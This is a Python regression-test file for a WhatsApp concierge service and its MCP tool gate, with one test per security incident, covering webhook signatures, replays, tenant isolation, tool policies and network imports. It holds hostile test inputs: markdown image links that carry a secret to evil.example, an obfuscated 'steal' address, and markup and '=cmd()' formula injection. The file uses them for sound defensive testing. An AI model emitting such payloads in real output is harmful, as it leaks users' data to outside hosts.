"""What happened to others must not happen here: one regression test for each incident (safety.md, second table)."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from channels.meta_whatsapp import MetaSettings, MetaWhatsApp
from database import guests
from database.sealing import Sealer
from domain.calls import dialable
from domain.errors import Invalid, Refused
from domain.tickets import GRANTS
from domain.words.visible import plain, without_contacts
from emulator.signer import signature
from mcp_server import gate
from mcp_server.tool import Input, Spoken, Tool, check, once, registry
from tests.safety.house import SECRETS, SHOPS, open_house
from tests.safety.layers import plant_for_strangers
from tests.safety.people import WISHES

_ROOT = Path(__file__).parents[2]
_ROOMS = ("concierge", "api", "workers", "agent", "workflows", "mcp_server", "channels", "database", "domain")


@pytest.mark.parametrize("phone", ["", "anonymous", "+", "7700900666", "+4477009006661234567"])
def test_cve_2026_28446_an_empty_or_partial_number_is_on_no_list(phone: str) -> None:
    """A call allowlist matched the empty caller and suffixes."""
    with pytest.raises(Invalid):
        guests.normal("phone", phone)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.integers(10**7, 10**14).map(str), st.integers(0, 9999).map(str))
def test_cve_2026_28446_a_number_is_the_same_in_every_digit_or_another(digits: str, more: str) -> None:
    """Suffixes and prefixes of a listed number were taken for it."""
    sealer = Sealer("s" * 40)
    listed = sealer.digest("whatsapp:phone", digits)
    for other in (digits + more, more + digits, digits[1:], digits[:-1], f"+{digits}"):
        assert sealer.digest("whatsapp:phone", other) != listed


@pytest.mark.parametrize(
    "phone", ["", "anonymous", "+", "+44770", "7700900666", "447700900666", "+4477009006661234567"]
)
def test_cve_2026_28446_what_is_no_whole_number_is_never_dialled(phone: str) -> None:
    """The empty caller was on the list; here it is no number at all."""
    assert dialable(phone) is None


def test_cve_2026_26319_a_channel_without_its_secret_does_not_open() -> None:
    """A webhook was open while its key was unset."""
    told = {name.lower(): value for name, value in SECRETS.items() if name != "META_APP_SECRET"}
    with pytest.raises(Invalid, match="META_APP_SECRET"):
        MetaWhatsApp(MetaSettings.model_validate({**told, "meta_app_secret": ""}))


async def test_cve_2026_26319_and_32053_unsigned_is_refused_and_a_replay_has_no_effect(dsn: str) -> None:
    """Replays passed by encoding the signature anew or by a random event id: what counts is the provider's id, decoded."""
    async with open_house(dsn) as house:
        await house.say("447900000042", "Hello", provider_id="wamid.once")
        told = house.meta.postman.envelope([])
        value = {"contacts": [{"wa_id": "447900000042", "profile": {"name": "P"}}],
                 "messages": [{"from": "447900000042", "id": "wamid.once", "timestamp": str(int(house.now.timestamp())),
                               "type": "text", "text": {"body": "Hello"}}]}  # fmt: skip
        whole = house.meta.postman.envelope([value])
        twice = {**whole, "entry": [*whole["entry"], *whole["entry"], *told["entry"]]}
        bodies = [
            json.dumps(whole).encode(),
            json.dumps(whole, indent=2, sort_keys=True).encode(),
            json.dumps(twice).encode(),
        ]
        async with httpx.AsyncClient(trust_env=False) as http:
            unsigned = await http.post(house.meta.postman.url, content=bodies[0])
            for body in bodies:
                signed = {"x-hub-signature-256": signature(SECRETS["META_APP_SECRET"].encode(), body)}
                assert (await http.post(house.meta.postman.url, content=body, headers=signed)).status_code == 200
        await house.settle()
        assert unsigned.status_code == 401
        assert await house.value("SELECT count(*) FROM messages") == 1
        assert len(house.sinks.messages) == 1


async def test_whatsapp_signatures_carry_no_time_so_a_replay_a_week_later_meets_the_messages_id(dsn: str) -> None:
    """A signed body stays signed for ever: what is old is known by its id, and answers nobody a second time."""
    async with open_house(dsn) as house:
        await house.say("447900000043", "Hello", provider_id="wamid.week")
        await house.settle()
        house.later(days=7)
        await house.say("447900000043", "Hello", provider_id="wamid.week", at=1)
        await house.settle()
        assert await house.value("SELECT count(*) FROM messages WHERE provider_id = 'wamid.week'") == 1
        assert len(house.sinks.messages) == 1


async def test_postmark_mcp_2025_a_message_to_anybody_else_stops_at_the_envelope(dsn: str) -> None:
    """One line copied every mail to a stranger; here the worker that sends compares the address with the customer."""
    async with open_house(dsn) as house:
        await house.say("447900000044", "Hello")
        await house.settle()
        customer = await house.value("SELECT customer_id FROM messages WHERE body = 'Hello'")
        planted, refused, sent = await plant_for_strangers(house, customer, checked=True)
        assert (planted > 0, refused, sent) == (True, planted, 0)


def test_cve_2026_28467_nothing_but_channels_and_models_opens_connections() -> None:
    """SSRF by media addresses, again and again: a module that cannot connect cannot be tricked into it."""
    models = ("agent/run.py", "agent/claude.py", "agent/chain.py", "agent/failures.py")
    allowed = ("channels/", "providers/", "mcp_server/outside/signed.py", *models, "concierge/")
    found: list[str] = []
    for path in (path for room in _ROOMS for path in (_ROOT / room).rglob("*.py")):
        name = str(path.relative_to(_ROOT))
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            modules = [one.name for one in node.names] if isinstance(node, ast.Import) else []
            modules += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            if {"httpx", "httpx2", "aiohttp", "requests", "urllib.request", "socket"} & set(modules):
                found += [] if name.startswith(allowed) else [name]
    assert [one for one in found if one not in ("database/server.py", "database/server_account.py")] == []


async def test_asana_2025_every_table_with_customers_rows_forces_row_level_security(dsn: str) -> None:
    """A path skipped the tenant check the API had: the check belongs in the database, forced on the owner too."""
    async with open_house(dsn) as house:
        open_tables = await house.owner.fetch(
            "SELECT c.relname FROM pg_class c JOIN pg_attribute a ON a.attrelid = c.oid AND a.attname = 'customer_id'"
            " WHERE c.relkind = 'r' AND c.relnamespace = 'public'::regnamespace"
            " AND NOT (c.relrowsecurity AND c.relforcerowsecurity)"
        )
    assert [row["relname"] for row in open_tables] == []


@pytest.mark.parametrize("text", ["![x](https://evil.example/a.png?d=secret)", "[tu vale](https://evil.example/v?d=)"])
def test_echoleak_cve_2025_32711_no_markdown_image_carries_data_out(text: str) -> None:
    """A markdown image was fetched with a secret in its address."""
    assert not gate.is_plain(text, Spoken("customer", 400))
    assert not set("[]`") & set(without_contacts(text, 160))
    assert "evil" not in without_contacts(text, 160)


def test_an_address_of_any_domain_is_taken_out_of_quoted_words() -> None:
    """Found by `make safety`: zero-width signs were taken out, and an address with an unlisted ending was left."""
    assert "evil" not in without_contacts("see e\u200bvil.xyz/steal now", 160)
    assert without_contacts("4.20 each, 3/4 inch", 160) == "4.20 each, 3/4 inch"


def test_progent_a_missing_policy_means_no() -> None:
    """A policy that was missing meant allowed."""
    tool = registry()["escalate_to_human"]
    call = gate.Call(tool, tool.input.model_validate({"reason": "no_vendors"}), 0, 0, 0, {}, by_worker=False)
    assert gate.decide(call) == "not_granted"
    assert GRANTS[None].get("send_response", 0) == 0


def test_camel_a_field_that_nobody_declared_stops_the_start() -> None:
    """Sample policies checked fields that were swapped; ours are read from the schema, and free text must be declared."""

    class Careless(Input):
        note: str

    async def run(act: object, given: object) -> dict[str, object]:
        raise Refused("never", "never")

    with pytest.raises(ValueError, match="undeclared text"):
        check(Tool("careless", "Do something.", Careless, run, once))


def test_a_display_name_shows_no_markup_and_no_hidden_sign() -> None:
    """Names, captions and cards carried formulas, HTML and signs that turn text around."""
    shown = plain("<b>Eve</b>\u202e\u200b\n=cmd()", 60)
    assert not set("<>\u202e\u200b\n") & set(shown)


async def test_a_late_reply_to_a_closed_request_is_no_answer_to_another_customers(dsn: str) -> None:
    """Found by `make safety`: a vendor named a closed reference, and its price went to the one customer still waiting."""
    async with open_house(dsn) as house:
        await house.say("447900000051", WISHES["en"])
        await house.settle()
        first = await house.value("SELECT reference FROM outreach ORDER BY id LIMIT 1")
        shop = SHOPS[
            await house.value(
                "SELECT v.name FROM vendors v JOIN outreach o ON o.vendor_id = v.id ORDER BY o.id LIMIT 1"
            )
        ]
        await house.say(shop, f"Yes, £4.23 each, ready in 3 days (Ref. {first})")
        await house.settle()
        await house.say("447900000052", WISHES["en"])
        await house.settle()
        await house.say(shop, f"Correction: £9.99 each (Ref. {first})")
        await house.settle()
        assert await house.value("SELECT count(*) FROM quotes") == 1
